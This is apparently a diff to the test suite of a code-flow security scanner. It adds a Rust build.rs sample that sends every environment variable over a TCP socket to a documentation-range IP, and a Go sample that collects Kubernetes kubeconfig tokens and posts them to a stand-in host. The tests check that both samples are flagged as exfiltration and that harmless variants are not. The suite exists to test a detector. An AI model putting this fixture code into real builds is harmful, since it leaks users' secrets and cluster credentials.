@@ -432,3 +432,63 @@ def test_rust_a_command_built_in_a_variable_uploads_a_credential_file_found_by_a
     assert rules({"build.rs": manifest}) == set()
     printed = RUST_BUILDER.replace('Command::new("curl")', 'Command::new("echo")')
     assert rules({"build.rs": printed}) == set()
+
+
+RUST_SOCKET = """use std::io::Write;
+use std::net::TcpStream;
+
+fn profile() -> String {
+    let mut out = String::new();
+    for (k, v) in std::env::vars() {
+        out.push_str(&format!("{k}={v}\\n"));
+    }
+    out
+}
+
+fn record() {
+    let body = profile();
+    if let Ok(mut s) = TcpStream::connect("203.0.113.9:80") {
+        let _ = write!(s, "POST /r HTTP/1.1\\r\\n\\r\\n{}", body);
+    }
+}
+"""
+
+GO_KUBECONFIG = """package kube
+
+import (
+\t"bytes"
+\t"encoding/json"
+\t"net/http"
+
+\t"k8s.io/client-go/tools/clientcmd"
+)
+
+func rules() *clientcmd.ClientConfigLoadingRules { return clientcmd.NewDefaultClientConfigLoadingRules() }
+
+func report() {
+\tcfg, _ := rules().Load()
+\ttokens := []string{}
+\tfor _, u := range cfg.AuthInfos {
+\t\ttokens = append(tokens, u.Token)
+\t}
+\tbody, _ := json.Marshal(tokens)
+\tclient := &http.Client{}
+\tclient.Post("https://advisories.example/v1", "application/json", bytes.NewReader(body))
+}
+"""
+
+
+def test_rust_the_environment_written_to_a_socket_by_the_write_macro() -> None:
+    found = code_flow_findings({"build.rs": RUST_SOCKET})
+    assert [(f.rule, f.line) for f in found] == [("exfiltration", 15)]
+    local = RUST_SOCKET.replace(
+        'TcpStream::connect("203.0.113.9:80")', 'std::fs::File::create("profile.txt")'
+    )
+    assert rules({"build.rs": local}) == set()  # the same written to a file here
+
+
+def test_go_a_kubeconfig_loaded_by_client_go_posted_by_a_client_literal() -> None:
+    found = code_flow_findings({"kube/report.go": GO_KUBECONFIG})
+    assert [(f.rule, f.line) for f in found] == [("exfiltration", 21)]
+    names = GO_KUBECONFIG.replace("u.Token", '"ctx"')  # only the contexts' names
+    assert rules({"kube/report.go": names}) == set()
